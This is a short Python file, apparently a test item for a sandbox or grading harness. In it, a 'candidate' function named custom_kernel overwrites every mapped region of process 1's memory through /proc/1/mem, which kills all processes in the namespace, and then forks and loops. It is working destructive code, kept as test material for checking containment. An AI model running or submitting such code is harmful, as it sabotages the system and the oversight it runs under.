"""Crashed: overwrites the memory of process 1 of its namespaces, which ends all in them.

That process is the candidate's own kind: no capability, the same filter, the same uid.

class: 45
level: 2
says: the process
"""

import os
import time
from pathlib import Path


def overwrite(pid):
    lines = Path(f"/proc/{pid}/maps").read_text().splitlines()
    with open(f"/proc/{pid}/mem", "wb", buffering=0) as memory:
        for line in lines:
            begin, end = (int(word, 16) for word in line.split()[0].split("-"))
            try:
                memory.seek(begin)
                memory.write(b"\xcc" * (end - begin))
            except (OSError, OverflowError):
                pass


def custom_kernel(data):
    overwrite(1)
    if os.fork() == 0:
        os.fork()  # the grandchild is adopted by process 1, and its end wakes that
        os._exit(0)
    while True:
        time.sleep(60)
